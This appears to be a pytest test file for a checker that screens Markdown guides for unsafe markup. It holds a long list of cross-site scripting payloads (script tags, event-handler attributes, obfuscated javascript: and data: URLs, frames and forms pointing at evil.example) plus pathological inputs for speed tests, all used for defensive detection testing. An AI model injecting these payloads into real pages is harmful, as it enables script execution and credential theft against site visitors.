"""Unsafe markup: raw HTML, script URLs and attribute lists are found; Markdown is not."""

from __future__ import annotations

import time

import markdown
import pytest

from wikitool.screening.markup import UnsafeMarkup, find_unsafe_markup

# The extensions MkDocs always loads plus the ones the reference site adds.
SITE_EXTENSIONS = ["toc", "tables", "fenced_code", "admonition"]


def messages(text: str) -> list[str]:
    return [problem.message for problem in find_unsafe_markup(text)]


XSS_VECTORS = [
    ("<script>alert(1)</script>", "unsafe HTML element <script>"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "unsafe HTML element <SCRIPT>"),
    ("<img src=x onerror=alert(1)>", "HTML event handler attribute onerror in <img>"),
    ("<IMG SRC=x OnErRoR=alert(1)>", "HTML event handler attribute OnErRoR in <IMG>"),
    ('<img src="x"onerror="alert(1)">', "HTML event handler attribute onerror in <img>"),
    ("<svg/onload=alert(1)>", "HTML event handler attribute onload in <svg>"),
    ("<svg><script>alert(1)</script></svg>", "unsafe HTML element <svg>"),
    ("<body onload=alert(1)>", "HTML event handler attribute onload in <body>"),
    ("<details open ontoggle=alert(1)>", "HTML event handler attribute ontoggle in <details>"),
    ('<iframe src="https://evil.example">', "unsafe HTML element <iframe>"),
    ("<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "unsafe HTML element <iframe>"),
    ('<object data="evil.swf">', "unsafe HTML element <object>"),
    ("<embed src=evil.swf>", "unsafe HTML element <embed>"),
    ('<form action="https://evil.example"><input name=pw>', "unsafe HTML element <form>"),
    ("<button formaction=javascript:alert(1)>x", "javascript: URL in <button>"),
    ("<style>body{display:none}</style>", "unsafe HTML element <style>"),
    ("<base href=//evil.example/>", "unsafe HTML element <base>"),
    ('<meta http-equiv="refresh" content="0;url=//evil.example">', "unsafe HTML element <meta>"),
    ('<link rel=stylesheet href="//evil.example/x.css">', "unsafe HTML element <link>"),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "unsafe HTML element <math>"),
    ('<a href="javascript:alert(1)">x</a>', "javascript: URL in <a>"),
    ('<a href="jav&#x0A;ascript:alert(1)">x</a>', "javascript: URL in <a>"),
    ('<a href="&#x6A;&#x61;vascript:alert(1)">x</a>', "javascript: URL in <a>"),
    ('<div markdown="1" onclick="alert(1)">', "HTML event handler attribute onclick in <div>"),
    ("<b>bold</b>", "raw HTML <b>: guides are Markdown only"),
    ("\\<b>escaped?</b>", "raw HTML <b>: guides are Markdown only"),
    ("</p><p>", "raw HTML </p>: guides are Markdown only"),
    ("<!DOCTYPE html>", "raw HTML declaration <!...>: guides are Markdown only"),
    ("<?php echo 1 ?>", "raw HTML processing instruction <?...>: guides are Markdown only"),
    ("<!--><script>alert(1)</script>-->", "HTML comment that hides markup or may end early"),
    ("<!-- a --!><script>alert(1)</script>", "HTML comment that hides markup or may end early"),
    ("<!-- never closed", "HTML comment that is never closed"),
    (
        "Fee <!-- old: 80 --> 85 EUR",
        "HTML comment inside a line: comments must stand on lines of their own",
    ),
    ("<!-- a --> [x](y)", "HTML comment inside a line: comments must stand on lines of their own"),
    (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "unsafe HTML element <noscript>",
    ),
    ("<template><script>alert(1)</script></template>", "unsafe HTML element <template>"),
    ("[click](javascript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("[click](JaVaScRiPt:alert(1))", "javascript: URL in a Markdown link or image"),
    ("[click](jav&#x09;ascript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("[click](&#106;avascript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("[click](&#0000106avascript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("[click](javascript&colon;alert(1))", "javascript: URL in a Markdown link or image"),
    ("[click](%6Aavascript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("[click](java\tscript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("[click](\x01javascript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("[click]( vbscript:msgbox(1))", "vbscript: URL in a Markdown link or image"),
    ("[click](<javascript:alert(1)>)", "javascript: URL in a Markdown link or image"),
    ("[click](\n    javascript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("[click](\r\njavascript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("- [a](\n[r]: x\njavascript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("x](y [a](javascript:alert(1))", "javascript: URL in a Markdown link or image"),
    ("![x](`data:text/html,x`)", "data: URL in a Markdown link or image"),
    ("[a] b\r[a]: data:text/html,x", "data: URL in a link reference definition"),
    ("![x](data:text/html;base64,PHNjcmlwdD4=)", "data: URL in a Markdown link or image"),
    ("[x]: javascript:alert(1)\n\n[click][x]", "javascript: URL in a link reference definition"),
    ("[x]:\n   JAVASCRIPT:alert(1)", "javascript: URL in a link reference definition"),
    ("> [x]: javascript:alert(1)\n>\n> [a][x]", "javascript: URL in a link reference definition"),
    ("[r]: \n[x]: javascript:alert(1)\n\n[a][x]", "javascript: URL in a link reference definition"),
    ("<javascript://%0aalert(1)>", "javascript: URL in an autolink"),
    ("<data:text/html;base64,PHNjcmlwdD4=>", "data: URL in an autolink"),
    ('# Title {: onclick="alert(1)" }', "event handler onclick in a Markdown attribute list"),
    (
        "A paragraph\n{onmouseover=alert(1)}",
        "event handler onmouseover in a Markdown attribute list",
    ),
    ("text {: &#111;nclick=alert(1) }", "event handler onclick in a Markdown attribute list"),
    ('{: style="position:fixed;inset:0" }', "style attribute in a Markdown attribute list"),
    ('[x](#a){: href="javascript:alert(1)" }', "javascript: URL in a Markdown attribute list"),
    ("``a` <b>x</b>", "raw HTML <b>: guides are Markdown only"),
    ("`open\n<script>alert(1)</script>` close", "unsafe HTML element <script>"),
    ("```foo bar\n<script>alert(1)</script>\n```", "unsafe HTML element <script>"),
    ("```\n<script>alert(1)</script>\n", "unsafe HTML element <script>"),
    ("| `<b>` | `x |\n|---|---|\n| a | b |", "raw HTML <b>: guides are Markdown only"),
    ("`a\r\r<script>alert(1)</script>`", "unsafe HTML element <script>"),
    ("```\r\n*``` <b>x</b> ```", "raw HTML <b>: guides are Markdown only"),
    ("``` x\n\u00a0\n``` <b>x</b> ```", "raw HTML <b>: guides are Markdown only"),
    ("~~~\t\nx\n~~~\n<b>x</b>\n~~~", "raw HTML <b>: guides are Markdown only"),
]


@pytest.mark.parametrize(("text", "message"), XSS_VECTORS)
def test_unsafe_markup_is_found(text: str, message: str) -> None:
    assert messages(text)[:1] == [message]


BENIGN = [
    "Children under 18 < 21 days old",
    "Use a <- b, <3 and 5 <= 6 freely",
    "Apply at <https://www.gov.example/apply> or <http://gov.example>",
    "Questions: <passports@agency.example> or <mailto:passports@agency.example>",
    "[Apply online](https://gov.example/apply 'Apply online')",
    "[Fees](../fees.md#urgent) and [data protection](data-protection.md)",
    "![Map of the office](images/map.png)",
    "[ref]: https://gov.example/forms\n\n[Forms][ref]",
    "## Steps {: #steps }",
    "Bring {your passport} and pay x=1",
    "<!-- reviewed by the content owner, 2026 -->",
    "# Fees\n\n<!--\n  checked with the agency\n-->\n\nThe fee is 85 EUR.",
    "Personal data: we keep it for 6 months. Data: see below.",
    "Type `<your reference>` in the box.",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\n<iframe src=x></iframe>\n~~~",
    "```.python\n<b>x</b>\n```",
    "&lt;script&gt; is shown as text",
    "1. Fill in Form HB-12\n2. Pay **85 EUR**\n3. Wait 15 days",
    "> Note: prices <= 100 EUR\n\n- item\n- item",
    "!!! note\n    Bring two photos.",
]


@pytest.mark.parametrize("text", BENIGN)
def test_markdown_is_not_flagged(text: str) -> None:
    assert find_unsafe_markup(text) == []


@pytest.mark.parametrize(
    "text",
    [text for text in BENIGN if "`" in text or "~~~" in text],
)
def test_code_left_alone_is_rendered_escaped(text: str) -> None:
    # The exemption for code is only right if the renderer really escapes it.
    html = markdown.markdown(text, extensions=SITE_EXTENSIONS)
    for raw in ("<script", "<iframe", "<b>", "<your"):
        assert raw not in html


@pytest.mark.parametrize(
    "text",
    [
        "``a` <b>x</b>",
        "`open\n<script>alert(1)</script>` close",
        "```foo bar\n<script>alert(1)</script>\n```",
        "```\n<script>alert(1)</script>\n",
        "`a\r\r<script>alert(1)</script>`",
        "```\r\n*``` <b>x</b> ```",
        "``` x\n\u00a0\n``` <b>x</b> ```",
        "~~~\t\nx\n~~~\n<b>x</b>\n~~~",
    ],
)
def test_code_lookalikes_really_render_markup(text: str) -> None:
    # What looks like code here is not code to the renderer: flagging it is necessary.
    assert find_unsafe_markup(text) != []
    html = markdown.markdown(text, extensions=SITE_EXTENSIONS)
    assert "<b>" in html or "<script>" in html


@pytest.mark.parametrize(
    "text",
    [
        "Use ``a `<b>` here`` inside double backticks.",
        "| `<b>` | `x |\n|---|---|\n| a | b |",
        "`open\n<b>x</b>` close `",
    ],
)
def test_unusual_code_is_not_exempt(text: str) -> None:
    # The renderer escapes these, but the checker only trusts the plainest forms of code:
    # being stricter than the renderer is the safe way to disagree with it.
    assert "<b>" not in markdown.markdown(text, extensions=SITE_EXTENSIONS)
    assert messages(text)[:1] == ["raw HTML <b>: guides are Markdown only"]


def test_problems_say_where_they_are() -> None:
    text = (
        "---\ntitle: <b>Passports</b>\n---\n"
        "# Renew\n\nSee [this](javascript:alert(1)).\n\n```\n<script>\n```\n"
        "  <img src=x onerror=alert(1)>\n"
    )
    assert find_unsafe_markup(text) == [
        UnsafeMarkup(2, 8, "raw HTML <b>: guides are Markdown only"),
        UnsafeMarkup(2, 20, "raw HTML </b>: guides are Markdown only"),
        UnsafeMarkup(6, 10, "javascript: URL in a Markdown link or image"),
        UnsafeMarkup(11, 3, "HTML event handler attribute onerror in <img>"),
    ]


def test_long_names_are_shortened_in_messages() -> None:
    (problem,) = find_unsafe_markup("<" + "x" * 100 + ">")
    assert problem.message == "raw HTML <" + "x" * 40 + "...>: guides are Markdown only"


@pytest.mark.parametrize(
    "hostile",
    [
        pytest.param("<a" * 100_000, id="unclosed tags"),
        pytest.param("<!--" * 50_000, id="unclosed comments"),
        pytest.param("](" * 100_000, id="link openers"),
        pytest.param("{" * 200_000, id="braces"),
        pytest.param("```x\n" * 40_000, id="unclosed fences"),
        pytest.param("`" + " `` ` ``` " * 20_000, id="backtick runs"),
        pytest.param("<a@" * 66_000, id="at signs"),
        pytest.param("> " * 100_000, id="block quote markers"),
        pytest.param("[\n" * 100_000, id="reference openers"),
        pytest.param("- [x]:\n" * 30_000, id="empty reference definitions"),
    ],
)
def test_hostile_markup_is_checked_quickly(hostile: str) -> None:
    # CPU time of this process: other jobs on a busy machine do not count against it.
    started = time.process_time()
    find_unsafe_markup(hostile)
    assert time.process_time() - started < 1


@pytest.mark.parametrize(
    "text",
    [
        "---\ntitle: '`<script>alert(1)</script>`'\n---\n# Body\n",
        "\ufeff---\ntitle: '`<script>alert(1)</script>`'\n...\n# Body\n",
        "---\r\ntitle: '`<script>alert(1)</script>`'\r\n---\r\n# Body\r\n",
    ],
)
def test_backticks_in_front_matter_protect_nothing(text: str) -> None:
    # Templates print front matter values as they are: there is no code span there.
    assert messages(text)[:1] == ["unsafe HTML element <script>"]


def test_code_after_front_matter_is_still_exempt() -> None:
    assert find_unsafe_markup("---\ntitle: Passports\n---\nType `<your name>`.\n") == []
